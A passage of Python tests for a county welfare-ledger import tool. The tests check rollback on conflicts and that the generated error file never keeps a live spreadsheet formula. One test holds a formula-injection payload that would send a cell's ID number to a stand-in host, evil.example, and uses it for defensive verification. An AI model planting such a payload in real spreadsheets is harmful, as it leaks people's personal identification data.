    monkeypatch.setattr(ledger._Checker, "_existing", lambda self: None)
    people = [person(f"人{i}", id_number("445381", "19600101", f"{i + 960:03d}")) for i in range(3)]
    people.append(person("重复", world.beneficiary_b.id_number))
    before = counts()
    with pytest.raises(LedgerError) as error:
        county_import(world, ledger_xlsx(people))
    assert "写入时发现冲突" in str(error.value)
    assert counts() == before
    assert not ImportRun.objects.exists()


def test_the_error_file_never_holds_a_formula_and_keeps_every_value_as_typed(world):
    """Finding 8: a name typed as a formula went into the error file (which holds clear ID numbers) as a live
    formula; it is now text, exactly as typed, so the corrected file imports as it should."""
    trap = '=HYPERLINK("http://evil.example/?"&B3,"点击")'
    quoted = '"' + trap.replace('"', '""') + '"'  # as a CSV cell
    rows = [
        "姓名*,身份证号,镇（街）*,村（居）*,类别1*,联系电话",
        f"{quoted},{id_number('445381', '19600101', '611')},素龙街道,凤塘村,低保对象,12345",
        f"-乙,{id_number('445381', '19600101', '612')},素龙街道,凤塘村,低保对象,13800000000",
    ]
    run = county_import(world, "\n".join(rows).encode(), filename="台账.csv")
    assert run.status == "failed"
    data = error_file_bytes(run)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(data)).active
    assert (sheet.cell(row=2, column=1).value, sheet.cell(row=2, column=1).data_type) == (trap, "s")
    assert sheet.cell(row=3, column=1).value == "-乙"  # no apostrophe added: it goes back in as typed
